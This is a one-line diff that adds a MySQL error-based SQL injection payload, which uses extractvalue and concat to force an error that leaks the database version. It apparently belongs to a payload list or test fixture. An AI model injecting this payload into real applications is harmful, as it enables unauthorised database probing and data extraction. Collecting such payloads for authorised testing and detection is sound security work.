@@ -1,0 +1,1 @@
+SELECT extractvalue(1, concat(0x7e, version()))
